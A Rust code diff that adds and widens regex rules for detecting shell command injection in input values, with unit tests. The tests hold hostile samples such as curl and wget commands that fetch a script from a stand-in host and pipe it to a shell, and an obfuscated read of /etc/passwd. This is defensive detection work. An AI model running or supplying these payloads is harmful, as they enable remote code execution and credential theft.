@@ -149,9 +149,10 @@ pub(super) fn rules() -> Vec<RuleDef> {
             DEC,
             // A variable assigned and then run as the command (`CMD=$'id';$CMD`),
             // ANSI-C quoting next to a separator, or a command glued from variables
-            // after a separator (`;a=i;b=d;$a$b`): shell, never prose.
+            // after a separator (`;a=i;b=d;$a$b`), its arguments variables too
+            // (`c=cat&&$c $a$b`): shell, never prose.
             Regex(
-                r##"(?:^|[;|&\s])[a-z_]\w*=\S*\s*(?:;|&&|\|\|?)\s*\$\{?[a-z_]\w*\}?\s*(?:$|[;|&#])|(?:^|[;|&]\s*)[a-z_]\w*=\$['"][^'"]+['"]\s*[;|&]|\$'(?:[^'\\]*\\(?:[0-7]{1,3}|x[0-9a-f]{1,2})){2}|[;|&]\s*(?:\$\{?[a-z_]\w*\}?){2,}\s*(?:$|[;|&#])"##,
+                r##"(?:^|[;|&\s])[a-z_]\w*=\S*\s*(?:;|&&|\|\|?)\s*\$\{?[a-z_]\w*\}?(?:\s+(?:\$\{?[a-z_]\w*\}?)+)*\s*(?:$|[;|&#])|(?:^|[;|&]\s*)[a-z_]\w*=\$['"][^'"]+['"]\s*[;|&]|\$'(?:[^'\\]*\\(?:[0-7]{1,3}|x[0-9a-f]{1,2})){2}|[;|&]\s*(?:\$\{?[a-z_]\w*\}?){2,}\s*(?:$|[;|&#])"##,
             ),
             "Shell variable or ANSI-C quoted command",
         ),
@@ -185,6 +186,35 @@ pub(super) fn rules() -> Vec<RuleDef> {
                 r"(?:^|[;|&\n\r`]|\$\()\s*(?:sudo\s+)?find\s+[/.~]\S*\s+(?:\S+\s+)*?-(?:name|iname|perm|type|user|group|newer|writable|readable|executable|exec|size|mtime|uid|gid|regex)\b|(?:[;|&\n\r`]|\$\()\s*(?:sudo\s+)?(?:ip\s+(?:-\w+\s+)*(?:a|addr|address|r|route|l|link|n|neigh|neighbou?r)(?:\s+(?:show|list|ls))?|ss\s+-[a-z]*[tulp][a-z]*|lsof\s+-i\w*|arp\s+-an?|iptables\s+-[ls]\w*)\s*(?:$|[;|&`#)])",
             ),
             "Reconnaissance command",
+        ),
+        rule(
+            932115,
+            Rce,
+            1,
+            Critical,
+            ATTACK,
+            CMD,
+            // The whole value is one short command line whose output is piped
+            // into a shell: `time whoami | sh`, `echo "foo;whxam"i | tr x o | sh
+            // #`, `curl -s http://evil.example/x | bash`. Prose does not pipe.
+            Regex(
+                r##"^[^|\n]{1,80}(?:\|[^|\n]{1,40}){0,2}\|\s*(?:sudo\s+)?(?:/(?:usr/)?bin/)?(?:ba|z|k|da|c|tc)?sh\s*(?:-[a-z]+\s*)*(?:#.*|`+)?\s*$"##,
+            ),
+            "Value is a command line piped into a shell",
+        ),
+        rule(
+            932116,
+            Rce,
+            1,
+            Critical,
+            ATTACK,
+            CMD,
+            // A here-string fed to a command at the start of the value or after a
+            // separator: `cat<<<ifconfig|sh`, `;gcc10.1<<<void main(){}`,
+            // `;irb<<<1`. Bash syntax only; a merge conflict marker
+            // (`<<<<<<< HEAD`) has no word right before its last three `<`.
+            Regex(r##"(?:^|[;&|`]\s*)[a-z][\w.+-]*\s*<<<\s*[^<\s]"##),
+            "Here-string fed to a command",
         ),
         rule(
             932114,
@@ -593,9 +623,49 @@ mod tests {
     }
 
     #[test]
+    fn a_command_line_piped_into_a_shell_fires_but_prose_and_tables_do_not() {
+        for a in [
+            "time whoami | sh",
+            "nohup whoami | sh",
+            "echo \"foo;whxam\"i | tr x o | sh #\"",
+            "whxami|sh ``",
+            "curl -s http://evil.example/x | bash",
+            "wget -qO- http://evil.example/x|/bin/sh",
+        ] {
+            assert!(fires(932115, a), "missed {a:?}");
+        }
+        for b in [
+            "the shell (sh) is fine",
+            "| name | shell |\n| a | sh |",
+            "pipe it to sh later, or not",
+            "x | shell",
+        ] {
+            assert!(!fires(932115, b), "flagged {b:?}");
+        }
+    }
+
+    #[test]
+    fn a_here_string_fed_to_a_command_fires_but_conflict_markers_do_not() {
+        for a in [
+            "cat<<<ifconfig | sh",
+            ";gcc10.1<<<void main(){}",
+            ";irb<<<1 2",
+            "cat <<< 'id'",
+        ] {
+            assert!(fires(932116, a), "missed {a:?}");
+        }
+        for b in ["<<<<<<< HEAD", "text <<<<<<< ours", "a << b", "1 <<< 2"] {
+            assert!(!fires(932116, b), "flagged {b:?}");
+        }
+    }
+
+    #[test]
     fn a_command_glued_from_variables_fires() {
         assert!(fires(932108, ";a=i;b=d;$a$b"));
         assert!(fires(932108, "|${x}${y}"));
+        // Its arguments glued from variables too.
+        assert!(fires(932108, "a=/etc&&b=/passwd&&c=cat&&$c $a$b"));
+        assert!(!fires(932108, "x=1 && $EDITOR notes.txt"));
         assert!(!fires(932108, "costs $5 or $10"));
         assert!(!fires(932108, "$a$b"));
     }
